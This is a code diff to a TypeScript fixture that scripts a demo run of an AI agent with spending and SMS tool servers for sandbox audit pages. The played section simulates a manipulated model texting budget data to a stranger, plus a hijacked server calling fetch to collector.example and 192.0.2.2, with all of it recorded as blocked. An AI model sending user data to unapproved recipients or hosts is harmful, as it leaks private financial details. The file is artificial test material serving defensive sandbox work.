@@ -1,12 +1,25 @@
 import { storyOf as storyOfParts } from '../../agent/pages/run/reading/story-of.ts';
 import type { LaneId, Moment, Story } from '../../agent/pages/run/story.ts';
-import type { AuditEvent } from '../../agent/sandbox/audit/line.ts';
-import { BEGAN, type Logged, logOf, type Recorded, recordOf, request } from './run-parts.ts';
+import {
+  calls,
+  consent,
+  egress,
+  note,
+  policy,
+  refused,
+  request,
+  result,
+  row,
+  SMS,
+  started,
+  stopped,
+  toolCall,
+  used,
+} from './run-events.ts';
+import { BEGAN, type Logged, logOf, type Recorded, recordOf } from './run-parts.ts';
 
 /** Stories of runs with fixed times and hashes, for tests of pages and for pictures. */
 
-const SMS = 'mcp-server-sms';
-const OWNER = '+12025550143';
 const PROMPT = 'Check my budgets and alert me';
 const ANSWER =
   '2 of 4 budgets run hot. Shopping: CHF 95 of 80 (119%). Food & Dining: CHF 135 of 150 (90%). Alerts: Shopping queued, Food & Dining queued.';
@@ -36,127 +49,75 @@ const STATUS = {
   })),
 };
 
-const used = (at: number, calls: number, inputTokens: number, outputTokens: number): Recorded => [
-  at,
-  { type: 'usage', usage: { calls, inputTokens, outputTokens } },
-];
-
-/** A call and its result. */
-function called(
-  [from, to]: readonly [number, number],
-  [server, tool]: readonly [string, string],
-  args: Record<string, unknown>,
-  structured: Record<string, unknown>,
-): Recorded[] {
-  const call = { callId: `call_${from}`, name: `${server}__${tool}`, arguments: JSON.stringify(args) };
-  const result = { isError: false, text: JSON.stringify(structured), structured };
-  const outcome = { kind: 'result' as const, call: { server, tool, args }, result, recipient: '+…0143' };
-  return [
-    [from, { type: 'call', call }],
-    [to, { type: 'outcome', call, outcome }],
-  ];
-}
-
 /** A text to a stranger, and connections that were not granted: played by the demo, after the answer. */
 function played(): Recorded[] {
-  const args = { to: '+…0199', message: 'Shopping CHF 95, Food & Dining CHF 135' };
-  const call = { callId: 'played', name: 'sms__send_sms', arguments: JSON.stringify(args) };
-  const note = (text: string, plays?: true) => ({ type: 'note' as const, text, ...(plays && { plays }) });
-  const outcome = {
-    kind: 'denied' as const,
-    call: { server: 'sms', tool: 'send_sms', args },
-    reason: STRANGER,
-  };
+  const text = { args: { to: '+…0199', message: 'Shopping CHF 95, Food & Dining CHF 135' } };
   return [
-    [586, note('Here the demo plays a model that was talked into it: it calls send_sms itself.', true)],
-    [587, { type: 'call', call }],
-    [590, { type: 'outcome', call, outcome }],
-    [591, note('Here the demo plays an SMS server that was taken over, from inside its sandbox.', true)],
-    [
+    note(586, 'Here the demo plays a model that was talked into it: it calls send_sms itself.', true),
+    calls(587, text),
+    refused(590, STRANGER, text),
+    note(591, 'Here the demo plays an SMS server that was taken over, from inside its sandbox.', true),
+    note(
       770,
-      note(
-        "fetch('https://collector.example/') was BLOCKED: ENOTFOUND; on record: collector.example:53, a DNS query for a name that was not granted",
-      ),
-    ],
-    [
+      "fetch('https://collector.example/') was BLOCKED: ENOTFOUND; on record: collector.example:53, a DNS query for a name that was not granted",
+    ),
+    note(
       932,
-      note(
-        "fetch('https://192.0.2.2/') was BLOCKED: ERR_SSL_TLSV1_ALERT_ACCESS_DENIED; on record: 192.0.2.2:443, this address was not granted",
-      ),
-    ],
+      "fetch('https://192.0.2.2/') was BLOCKED: ERR_SSL_TLSV1_ALERT_ACCESS_DENIED; on record: 192.0.2.2:443, this address was not granted",
+    ),
   ];
 }
 
-const consent = (at: number, server: string, what: string): Logged => [
-  at,
-  { event: 'consent', server, permission: `Allow access to ${what}`, verdict: 'granted' },
-];
-const started = (at: number, server: string, manifest: string, source: string): Logged => [
-  at,
-  { event: 'start', server, runtime: 'docker', isolated: true, manifest: manifest.repeat(4), source },
-];
-const policy = (at: number, server: string, tool: string, reason?: string): Logged => [
-  at,
-  {
-    event: 'policy',
-    server,
-    tool,
-    verdict: reason === undefined ? 'allowed' : 'denied',
-    reason: reason ?? '',
-  },
-];
-const egress = (
-  at: number,
-  host: string,
-  port: number,
-  verdict: 'allowed' | 'denied',
-  reason: string,
-): Logged => [at, { event: 'egress', server: SMS, host, port, verdict, reason } satisfies AuditEvent];
 const POST = 'POST /2010-04-01/Accounts/{env:TWILIO_ACCOUNT_SID}/Messages.json';
 const DNS = 'a DNS query for a name that was not granted';
 
+const STATUS_CALL = { server: 'spending', tool: 'get_budget_status', args: { as_of: null } };
+
 const LOG: readonly Logged[] = [
-  consent(
+  [
     -1052,
-    'spending',
-    'file system path (read: true, write: false): "/home/ada/spendwise/data/spendwise.db"',
-  ),
-  consent(-1051, SMS, 'domain: api.twilio.com:443'),
-  consent(-1050, SMS, 'env var: TWILIO_ACCOUNT_SID'),
-  consent(-1049, SMS, 'env var: TWILIO_AUTH_TOKEN'),
-  consent(-1048, SMS, 'env var: TWILIO_PHONE_NUMBER'),
-  consent(-1047, SMS, 'env var: NOTIFICATION_PHONE'),
-  started(-341, SMS, '6f5c2714decbd3e6', '/home/ada/spendwise/mcp-server-sms/sandbox.json'),
-  started(-308, 'spending', 'cdc2e52539280a87', 'the manifest in code that is called spending'),
-  policy(64, 'spending', 'get_budget_status'),
-  [64, { event: 'tool_call', server: 'spending', tool: 'get_budget_status' }],
+    consent(
+      'spending',
+      'file system path (read: true, write: false): "/home/ada/spendwise/data/spendwise.db"',
+    ),
+  ],
+  [-1051, consent(SMS, 'domain: api.twilio.com:443')],
+  [-1050, consent(SMS, 'env var: TWILIO_ACCOUNT_SID')],
+  [-1049, consent(SMS, 'env var: TWILIO_AUTH_TOKEN')],
+  [-1048, consent(SMS, 'env var: TWILIO_PHONE_NUMBER')],
+  [-1047, consent(SMS, 'env var: NOTIFICATION_PHONE')],
+  [-341, started(SMS, '6f5c2714decbd3e6'.repeat(4), '/home/ada/spendwise/mcp-server-sms/sandbox.json')],
+  [-308, started('spending', 'cdc2e52539280a87'.repeat(4), 'the manifest in code that is called spending')],
+  [64, policy('allowed', '', STATUS_CALL)],
+  [64, toolCall({ server: 'spending', tool: 'get_budget_status' })],
   ...TEXTS.flatMap(({ at }): Logged[] => [
-    policy(at + 3, 'sms', 'send_budget_alert'),
-    [at + 40, { event: 'tool_call', server: SMS, tool: 'send_budget_alert' }],
-    egress(at + 60, 'api.twilio.com', 443, 'allowed', POST),
+    [at + 3, policy('allowed', '', { tool: 'send_budget_alert' })],
+    [at + 40, toolCall({ tool: 'send_budget_alert' })],
+    [at + 60, egress('api.twilio.com', 'allowed', 443, POST)],
   ]),
-  policy(588, 'sms', 'send_sms', STRANGER),
-  egress(767, 'collector.example', 53, 'denied', DNS),
-  egress(768, 'collector.example', 53, 'denied', DNS),
-  egress(929, '192.0.2.2', 443, 'denied', 'this address was not granted'),
-  [1109, { event: 'stop', server: 'spending', how: 'exit code 0' }],
-  [1160, { event: 'stop', server: SMS, how: 'exit code 0' }],
+  [588, policy('denied', STRANGER)],
+  [767, egress('collector.example', 'denied', 53, DNS)],
+  [768, egress('collector.example', 'denied', 53, DNS)],
+  [929, egress('192.0.2.2', 'denied', 443, 'this address was not granted')],
+  [1109, stopped('exit code 0', 'spending')],
+  [1160, stopped()],
 ];
 
 const RECORD: readonly Recorded[] = [
-  request(PROMPT, 8),
-  used(57, 1, 1_116, 48),
-  ...called([60, 79], ['spending', 'get_budget_status'], { as_of: null }, STATUS),
-  ...TEXTS.flatMap(({ at, category, spent, budget, body, sid }, index): Recorded[] => [
-    used(at, index + 2, 2_408 + 1_446 * index, 118 + 72 * index),
-    ...called(
-      [at, at + 375 - 286 * index],
-      ['sms', 'send_budget_alert'],
-      { category, spent, budget, currency: 'CHF' },
-      { to: '+12*******43', segments: 1, encoding: 'GSM-7', body, status: 'queued', sid },
-    ),
-  ]),
-  used(575, 4, 5_458, 267),
+  request(PROMPT),
+  used(57, { inputTokens: 1_116, outputTokens: 48 }),
+  calls(60, STATUS_CALL),
+  result(79, STATUS, STATUS_CALL),
+  ...TEXTS.flatMap(({ at, category, spent, budget, body, sid }, index): Recorded[] => {
+    const alert = { tool: 'send_budget_alert', args: { category, spent, budget, currency: 'CHF' } };
+    const sent = { to: '+12*******43', segments: 1, encoding: 'GSM-7', body, status: 'queued', sid };
+    return [
+      used(at, { calls: index + 2, inputTokens: 2_408 + 1_446 * index, outputTokens: 118 + 72 * index }),
+      calls(at, alert),
+      result(at + 375 - 286 * index, sent, alert),
+    ];
+  }),
+  used(575, { calls: 4, inputTokens: 5_458, outputTokens: 267 }),
   [576, { type: 'answer', text: ANSWER }],
   ...played(),
   [933, { type: 'end', outcome: 'answered' }],
@@ -167,13 +128,14 @@ export const demoStory = (): Story =>
   storyOfParts({
     run: recordOf(RECORD),
     log: logOf(LOG, { from: 8 }),
-    rows: TEXTS.map(({ at, body, sid }, id) => ({
-      ...{ id, state: 'sent', tool: 'send_budget_alert', alert: undefined, recipient: OWNER, body, sid },
-      reason: undefined,
-      reservedAt: new Date(BEGAN + at + 14),
-      sendingAt: new Date(BEGAN + at + 36),
-      settledAt: new Date(BEGAN + at + 72),
-    })),
+    rows: TEXTS.map(({ at, body, sid }, id) =>
+      row({
+        ...{ id, tool: 'send_budget_alert', body, sid },
+        reservedAt: new Date(BEGAN + at + 14),
+        sendingAt: new Date(BEGAN + at + 36),
+        settledAt: new Date(BEGAN + at + 72),
+      }),
+    ),
     gaps: [],
   });
 
